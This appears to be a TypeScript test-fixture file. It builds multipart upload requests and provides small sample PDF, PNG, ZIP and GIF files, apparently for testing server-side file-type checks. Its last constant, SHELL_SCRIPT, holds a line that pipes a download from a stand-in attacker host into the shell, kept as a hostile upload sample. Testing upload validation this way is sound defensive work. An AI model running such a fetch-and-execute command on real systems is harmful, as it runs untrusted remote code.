// Upload Document requests as the browser sends them (multipart/form-data built by the platform's FormData),
// and small real files of each kind.
import { UPLOAD_FIELDS } from '@eta/contracts';

export interface UploadFile {
  name: string;
  content: Buffer;
  /** What the browser claims; the server judges the content instead. */
  type?: string;
}

export async function uploadRequest(
  fields: Partial<Record<'orderId' | 'email' | 'mailServiceProvider', string>>,
  file?: UploadFile,
): Promise<{ payload: Buffer; headers: Record<string, string> }> {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) if (value !== undefined) form.append(name, value);
  if (file) {
    form.append(
      UPLOAD_FIELDS.file,
      new Blob([file.content], { type: file.type ?? 'application/octet-stream' }),
      file.name,
    );
  }
  const request = new Request('http://upload.test/', { method: 'POST', body: form });
  return {
    payload: Buffer.from(await request.arrayBuffer()),
    headers: { 'content-type': request.headers.get('content-type')! },
  };
}

/** A small but well-formed one-page PDF. */
export const PDF = Buffer.from(
  [
    '%PDF-1.4',
    '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj',
    'trailer << /Root 1 0 R >>',
    '%%EOF',
    '',
  ].join('\n'),
);

/** A 1×1 PNG. */
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

/** A ZIP archive (an empty one): neither a PDF nor an image. */
export const ZIP = Buffer.from('UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==', 'base64');

/** A 1×1 GIF: an image a PDF cannot draw as it is. */
export const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n');
